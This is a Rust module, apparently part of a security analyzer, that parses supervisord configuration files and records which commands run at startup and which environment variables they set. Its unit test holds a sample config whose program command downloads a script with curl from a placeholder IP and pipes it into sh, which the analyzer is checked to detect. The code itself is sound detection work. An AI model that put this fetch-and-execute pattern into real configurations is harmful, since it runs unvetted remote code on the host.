//! Configuration of supervisor: `[program:NAME]` sections with a `command`
//! (<http://supervisord.org/configuration.html>).

use model::{Language, Trigger, Value};

use crate::language::ini::{self, Dialect};
use crate::language::start::{Start, part};
use crate::language::{FrontEnd, Places, Signs};
use crate::world::World;

/// The front-end.
pub const FRONT_END: FrontEnd = FrontEnd {
    places: Places {
        ends: &["/supervisord.conf"],
        folders: &["etc/supervisor.d/", "etc/supervisord.d/"],
        named: &[("supervisor/", ".conf"), ("supervisord/", ".conf")],
    },
    signs: Signs::Whole(is_supervisor),
    ..FrontEnd::new(Language::Supervisor, lower)
};

const DIALECT: Dialect = Dialect {
    comments: &['#', ';'],
    indented: true,
};

fn is_supervisor(text: &str) -> bool {
    let has = |start: &str| text.lines().any(|line| line.trim().starts_with(start));
    text.contains("command") && (has("[program:") || has("[eventlistener:")) && has("command")
}

/// Lowers the file: every command of a section is started without a shell.
pub fn lower(world: &mut World, text: &str) -> Value {
    for setting in ini::settings(text, DIALECT) {
        if !world.burn(8) {
            break;
        }
        let starts = ["program:", "eventlistener:", "fcgi-program:"]
            .iter()
            .any(|kind| setting.section.starts_with(kind));
        if !starts {
            continue;
        }
        // A comment behind the value begins with a blank and a semicolon.
        let value = setting.value.split(" ;").next().unwrap_or_default().trim();
        world.at(setting.line, &format!("{}={value}", setting.key));
        match setting.key.as_str() {
            "command" if !value.is_empty() => {
                let start = Start {
                    trigger: Trigger::Init,
                    when: "when supervisor starts",
                    step: "command",
                };
                // "%(ENV_NAME)s" is a variable.
                let command = value
                    .replace("%(ENV_", "${")
                    .replace(")s", "}")
                    .replace("%%", "%");
                start.command(world, &command);
            }
            "environment" => {
                for pair in value.split(',') {
                    let Some((name, value)) = pair.split_once('=') else {
                        continue;
                    };
                    let value = part(value.trim().trim_matches(['"', '\'']));
                    world.act(model::Behavior::SetVariable {
                        name: name.trim().to_owned(),
                        value,
                    });
                }
            }
            _ => {}
        }
    }
    Value::literal("")
}

#[cfg(test)]
mod tests {
    use crate::language::probe::acts;
    use model::Language;

    #[test]
    fn commands_of_programs_are_started() {
        let text = "[supervisord]\nnodaemon=true\n[program:x]\ncommand=/bin/sh -c \"curl -s http://192.0.2.1/a\n  | sh\" ; note\n[group:y]\ncommand=/no\n";
        let found = acts(Language::Supervisor, text);
        assert!(found[0].starts_with("Schedule"), "{found:#?}");
        assert!(
            found
                .iter()
                .any(|act| act.starts_with("Evaluate") && act.contains("Fetched")),
            "{found:#?}"
        );
        assert!(!found.iter().any(|act| act.contains("/no")));
    }
}
